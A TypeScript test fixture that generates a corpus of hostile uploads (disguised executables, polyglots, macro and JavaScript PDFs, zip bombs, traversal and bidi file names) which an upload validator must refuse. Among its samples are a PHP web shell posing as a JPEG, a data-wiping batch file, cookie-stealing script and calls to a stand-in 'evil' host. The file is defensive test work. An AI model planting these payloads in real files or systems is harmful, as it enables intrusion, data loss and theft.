import { gzipSync } from 'node:zlib';
import { JPEG_HEADER, PNG_1x1, cfb, pdf, zip } from './fixtures.js';

/** One hostile upload: a name, the Content-Type the client claims, the bytes, and what is wrong. */
export interface MaliciousCase {
  id: string;
  name: string;
  mime: string;
  content: Buffer;
  /** What a refusal must be about (matched against the zh+en answer). */
  why: RegExp;
}

const EICAR = 'X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*';
const ELF = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(120, 0)]);
const EXE = (() => {
  const b = Buffer.alloc(256, 0);
  b.write('MZ', 0, 'latin1');
  b.writeUInt32LE(0x80, 0x3c);
  b.write('PE\0\0', 0x80, 'latin1');
  return b;
})();
const HTML = Buffer.from('<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>');
const SVG = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>');
const CT_XLSX =
  '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>';
const CT_DOCX =
  '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>';
const CT_XLSM = CT_XLSX.replace('sheet.main+xml', 'sheet.macroEnabled.main+xml').replace(
  'openxmlformats-officedocument.spreadsheetml',
  'ms-excel',
);
const xlsx = (extra: Record<string, string | Buffer> = {}) =>
  zip({ '[Content_Types].xml': CT_XLSX, 'xl/workbook.xml': '<workbook/>', ...extra });
const docx = (extra: Record<string, string | Buffer> = {}) =>
  zip({ '[Content_Types].xml': CT_DOCX, 'word/document.xml': '<document/>', ...extra });
const pdfWith = (body: string) =>
  Buffer.from(
    `%PDF-1.7\n1 0 obj << /Type /Catalog ${body} >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n`,
    'latin1',
  );
const zeros = (mb: number) => Buffer.alloc(mb * 1024 * 1024, 0);
const cfbWith = (utf16Name: string) => {
  const b = cfb();
  Buffer.from(utf16Name, 'utf16le').copy(b, 512);
  return b;
};

/**
 * The hostile uploads every build must refuse (issue 10, "Files"), made in code rather than kept as
 * binaries. `oversize` needs the harness's upload limit.
 */
export function maliciousCorpus(maxUploadBytes: number): MaliciousCase[] {
  const c: MaliciousCase[] = [];
  const add = (id: string, name: string, mime: string, content: Buffer, why: RegExp) =>
    c.push({ id, name, mime, content, why });
  const TYPE = /类型|扩展名|内容|type|extension|content/i;
  // executables and scripts under a document's name
  add('exe-as-pdf', 'invoice.pdf', 'application/pdf', EXE, TYPE);
  add(
    'exe-as-docx',
    'report.docx',
    'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
    EXE,
    TYPE,
  );
  add('elf-as-pdf', 'paper.pdf', 'application/pdf', ELF, TYPE);
  add('elf-as-xlsx', 'budget.xlsx', 'application/vnd.ms-excel', ELF, TYPE);
  add('exe-no-ext', 'setup', 'application/octet-stream', EXE, TYPE);
  add('exe-double-ext', 'a.pdf.exe', 'application/pdf', EXE, TYPE);
  add('pdf-double-ext-exe', 'scan.pdf.exe', 'application/pdf', pdf(), TYPE);
  add('bat', 'run.bat', 'text/plain', Buffer.from('@echo off\r\ndel /q C:\\*\r\n'), TYPE);
  add('ps1', 'x.ps1', 'text/plain', Buffer.from('Invoke-WebRequest http://evil'), TYPE);
  add('js', 'x.js', 'text/javascript', Buffer.from('alert(1)'), TYPE);
  add('html-as-pdf', 'apply.pdf', 'application/pdf', HTML, TYPE);
  add('html-as-docx', 'apply.docx', 'application/pdf', HTML, TYPE);
  add('html', 'page.html', 'text/html', HTML, TYPE);
  add('svg-script', 'logo.svg', 'image/svg+xml', SVG, TYPE);
  add('svg-as-png', 'logo.png', 'image/png', SVG, TYPE);
  add('php-as-jpg', 'photo.jpg', 'image/jpeg', Buffer.from('<?php system($_GET["c"]); ?>'), TYPE);
  add('gzip-as-pdf', 'doc.pdf', 'application/pdf', gzipSync(pdf()), TYPE);
  add('gzip', 'doc.pdf.gz', 'application/gzip', gzipSync(pdf()), TYPE);
  add('png-as-pdf', 'scan.pdf', 'application/pdf', PNG_1x1, TYPE);
  add('pdf-as-png', 'scan.png', 'image/png', pdf(), TYPE);
  add('cfb-as-docx', 'old.docx', 'application/msword', cfb(), TYPE);
  add('zip-as-docx', 'files.docx', 'application/zip', zip({ 'a.txt': 'x' }), TYPE);
  add(
    'xlsm-as-xlsx',
    'macro.xlsx',
    'application/vnd.ms-excel',
    zip({ '[Content_Types].xml': CT_XLSM, 'xl/workbook.xml': '<w/>', 'xl/vbaProject.bin': cfb() }),
    /宏|macro|类型|type/i,
  );
  add('binary-as-txt', 'notes.txt', 'text/plain', Buffer.from([0, 1, 2, 3, 0xff, 0xfe]), TYPE);
  add('utf16-as-csv', 'data.csv', 'text/csv', Buffer.from('\ufeffa,b', 'utf16le'), TYPE);
  add('json', 'list.json', 'application/json', Buffer.from('{"a":1}'), TYPE);
  add('lnk', 'doc.lnk', 'application/octet-stream', Buffer.from([0x4c, 0, 0, 0, 1, 0x14, 2, 0]), TYPE);
  // active content inside an accepted kind
  const ACTIVE = /脚本|宏|外部|动作|active|script|macro|external|action/i;
  add(
    'pdf-javascript',
    'js.pdf',
    'application/pdf',
    pdfWith('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>'),
    ACTIVE,
  );
  add(
    'pdf-js-hex-name',
    'js2.pdf',
    'application/pdf',
    pdfWith('/OpenAction << /S /J#61vaScript /JS (x) >>'),
    ACTIVE,
  );
  add(
    'pdf-launch',
    'launch.pdf',
    'application/pdf',
    pdfWith('/OpenAction << /S /Launch /F (cmd.exe) >>'),
    ACTIVE,
  );
  add('pdf-aa', 'aa.pdf', 'application/pdf', pdfWith('/AA << /O << /S /JavaScript /JS (x) >> >>'), ACTIVE);
  add(
    'pdf-embedded-file',
    'emb.pdf',
    'application/pdf',
    pdfWith('/Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >>'),
    ACTIVE,
  );
  add(
    'pdf-submitform',
    'form.pdf',
    'application/pdf',
    pdfWith('/OpenAction << /S /SubmitForm /F (http://evil) >>'),
    ACTIVE,
  );
  add('pdf-richmedia', 'rm.pdf', 'application/pdf', pdfWith('/RichMedia 3 0 R'), ACTIVE);
  add('docx-macro', 'm.docx', 'application/octet-stream', docx({ 'word/vbaProject.bin': cfb() }), ACTIVE);
  add('xlsx-macro', 'm.xlsx', 'application/octet-stream', xlsx({ 'xl/vbaProject.bin': cfb() }), ACTIVE);
  add(
    'xlsx-external-link',
    'ext.xlsx',
    'application/octet-stream',
    xlsx({ 'xl/externalLinks/externalLink1.xml': '<externalLink/>' }),
    ACTIVE,
  );
  add(
    'docx-remote-template',
    'tpl.docx',
    'application/octet-stream',
    docx({
      'word/_rels/settings.xml.rels':
        '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil/t.dotm" TargetMode="External"/></Relationships>',
    }),
    ACTIVE,
  );
  add(
    'docx-activex',
    'ax.docx',
    'application/octet-stream',
    docx({ 'word/activeX/activeX1.xml': '<ax/>' }),
    ACTIVE,
  );
  add('doc-ole-macro', 'old.doc', 'application/msword', cfbWith('_VBA_PROJECT'), ACTIVE);
  add('xls-ole-macro', 'old.xls', 'application/vnd.ms-excel', cfbWith('_VBA_PROJECT_CUR'), ACTIVE);
  add(
    'zip-with-exe',
    'bundle.zip',
    'application/zip',
    zip({ 'readme.txt': 'hi', 'setup.exe': EXE }),
    /可执行|executable/i,
  );
  add('eicar-txt', 'eicar.txt', 'text/plain', Buffer.from(EICAR), /病毒|malware|EICAR/i);
  add('eicar-in-zip-name', 'eicar.csv', 'text/csv', Buffer.from(`a,b\n${EICAR}\n`), /病毒|malware|EICAR/i);
  // polyglots and damaged documents
  const POLY = /多种|多余|不完整|损坏|polyglot|trailing|incomplete|damaged/i;
  add(
    'pdf-zip-polyglot',
    'poly.pdf',
    'application/pdf',
    Buffer.concat([pdf(), zip({ 'x.html': HTML })]),
    POLY,
  );
  add(
    'jpeg-html-polyglot',
    'poly.jpg',
    'image/jpeg',
    Buffer.concat([JPEG_HEADER, Buffer.from([0xff, 0xd9]), HTML]),
    POLY,
  );
  add(
    'png-zip-polyglot',
    'poly.png',
    'image/png',
    Buffer.concat([PNG_1x1, zip({ 'x.js': 'alert(1)' })]),
    POLY,
  );
  add('pdf-truncated', 'cut.pdf', 'application/pdf', pdf().subarray(0, 40), POLY);
  add('pdf-header-only', 'hdr.pdf', 'application/pdf', Buffer.from('%PDF-1.4\n'), POLY);
  // archives that expand without bound
  const BOMB = /压缩|炸弹|bomb|expan/i;
  add('zip-bomb', 'bomb.zip', 'application/zip', zip({ 'zeros.bin': zeros(40) }), BOMB);
  add('docx-bomb', 'bomb.docx', 'application/octet-stream', docx({ 'word/media/big.xml': zeros(40) }), BOMB);
  add(
    'xlsx-bomb',
    'bomb.xlsx',
    'application/octet-stream',
    xlsx({ 'xl/worksheets/sheet1.xml': zeros(40) }),
    BOMB,
  );
  // hostile names
  const NAME = /文件名|name/i;
  add('path-traversal', '../../etc/passwd.pdf', 'application/pdf', pdf(), NAME);
  add('path-traversal-win', '..\\..\\windows\\win.ini.txt', 'text/plain', Buffer.from('x'), NAME);
  add('nul-in-name', 'evil.exe\0.pdf', 'application/pdf', pdf(), NAME);
  // bidi controls are stripped from names (issue 10 §9), so the true extension decides
  add('bidi-override', 'invoice\u202Efdp.exe', 'application/pdf', EXE, TYPE);
  add('bidi-override-pdf', 'scan\u202Efdp.exe', 'application/pdf', pdf(), TYPE);
  add('reserved-con', 'CON.pdf', 'application/pdf', pdf(), NAME);
  add('reserved-com1', 'com1.txt', 'text/plain', Buffer.from('x'), NAME);
  add('overlong-name', `${'长'.repeat(300)}.pdf`, 'application/pdf', pdf(), NAME);
  add('dots-only', '...', 'application/pdf', pdf(), NAME);
  // size
  add('empty', 'empty.pdf', 'application/pdf', Buffer.alloc(0), /为空|empty/i);
  add('oversize', 'big.txt', 'text/plain', Buffer.alloc(maxUploadBytes + 1, 0x61), /过大|too large/i);
  return c;
}
